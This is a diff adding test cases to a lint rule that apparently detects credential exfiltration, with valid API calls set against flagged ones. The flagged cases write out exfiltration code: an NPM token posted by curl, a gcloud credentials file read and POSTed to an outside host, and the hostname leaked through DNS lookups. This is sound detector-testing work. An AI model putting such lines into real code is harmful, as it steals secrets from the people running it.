@@ -10,6 +10,16 @@ const given = (run: string, env: Readonly<Record<string, string>> = { T: 'secret
 
 await ruleTester(rule, {
   valid: [
+    { code: 'curl -X POST "https://api.datadoghq.com/api/v1/series?api_key=${DD_API_KEY}" -d @metrics.json', filename: 'report.sh' },
+    // the key of an interface in its own parameter, whatever the rest of the address
+    { code: 'const ask = (model, apiKey, body) => fetch(`https://generativelanguage.googleapis.com/v1beta/models/${model}:generateContent?key=${apiKey}`, { method: "POST", body });' },
+    { code: 'export function open(token, apiKey, v) { let url; if (token) { url = `wss://generativelanguage.googleapis.com/ws/a.${v}?access_token=${token}`; } else { url = `wss://generativelanguage.googleapis.com/ws/a.${v}?key=${apiKey}`; } return new WebSocket(url); }' },
+    { code: 'const track = (apiSecret, body) => fetch(`https://www.google-analytics.com/mp/collect?measurement_id=G-1&api_secret=${apiSecret}`, { method: "POST", body });' },
+    // whose account it is, and not what opens it
+    { code: 'const list = (credentials) => fetch(`https://dev.example-service.com/${credentials.organization}/_apis/projects`);' },
+    { code: 'import { readFileSync } from "node:fs"; const saved = JSON.parse(readFileSync("/home/me/.config/gcloud/application_default_credentials.json", "utf8")); fetch(`https://in.example-service.com/agents/${saved.agent_name}`);' },
+    // a machine asks for its own address
+    { code: 'import dns from "node:dns"; import os from "node:os"; dns.lookup(os.hostname(), (error, address) => use(address));' },
     // protocols that ask for the sender's host name
     { code: 'import net from "node:net"; import os from "node:os"; const socket = net.connect(25, host); socket.write(`EHLO ${os.hostname()}\\r\\n`); socket.write("HELO " + os.hostname() + "\\r\\n");' },
     { code: 'import net from "node:net"; import os from "node:os"; class Mailer { constructor() { this.name = os.hostname(); this.socket = net.connect(25, "mx"); this.socket.once("data", () => this.send("EHLO " + this.name)); } send(line) { this.socket.write(Buffer.from(line + "\\r\\n")); } }' },
@@ -136,6 +146,14 @@ await ruleTester(rule, {
     { code: 'fetch("https://tenant.auth0.com/api/v2/connections", { method: "POST", body: JSON.stringify({ client_secret: process.env.GITHUB_CLIENT_SECRET }) });' },
   ],
   invalid: [
+    { code: 'curl -X POST "https://api.datadoghq.com/api/v1/series?api_key=${NPM_TOKEN}" -d @metrics.json', filename: 'report.sh', errors: [{ messageId: 'sent' }] },
+    { code: 'const ask = (anthropicApiKey) => fetch(`https://generativelanguage.googleapis.com/v1beta/models?key=${anthropicApiKey}`);', errors: [{ messageId: 'credential' }] },
+    { code: 'const track = (password) => fetch(`https://www.google-analytics.com/mp/collect?measurement_id=G-1&api_secret=x&ep=${password}`);', errors: [{ messageId: 'credential' }] },
+    { code: 'const list = (credentials) => fetch(`https://dev.example-service.com/${credentials.value}/_apis/projects`);', errors: [{ messageId: 'credential' }] },
+    { code: 'import { readFileSync } from "node:fs"; const saved = JSON.parse(readFileSync("/home/me/.config/gcloud/application_default_credentials.json", "utf8")); fetch(`https://in.example-service.com/agents/${saved.value}`);', errors: [{ messageId: 'sent' }] },
+    { code: 'import { readFileSync } from "node:fs"; const saved = JSON.parse(readFileSync("/home/me/.config/gcloud/application_default_credentials.json", "utf8")); fetch("https://in.example-service.com", { method: "POST", body: JSON.stringify(saved) });', errors: [{ messageId: 'sent' }] },
+    { code: 'import dns from "node:dns"; import os from "node:os"; dns.lookup(`${os.hostname()}.x.example-service.com`, () => {});', errors: [{ messageId: 'dns' }] },
+    { code: 'import dns from "node:dns"; import os from "node:os"; dns.lookup([os.hostname(), zone].join("."), () => {});', errors: [{ messageId: 'dns' }] },
     { code: 'import net from "node:net"; import os from "node:os"; const socket = net.connect(25, host); socket.write(`HI ${os.hostname()}\\r\\n`);', errors: [{ messageId: 'sent' }] },
     { code: 'import net from "node:net"; import os from "node:os"; const socket = net.connect(25, host); socket.write(`EHLO ${os.userInfo().username}\\r\\n`);', errors: [{ messageId: 'sent' }] },
     { code: 'import net from "node:net"; import os from "node:os"; const socket = net.connect(25, host); socket.write(`EHLO a ${os.hostname()}\\r\\n`);', errors: [{ messageId: 'sent' }] },
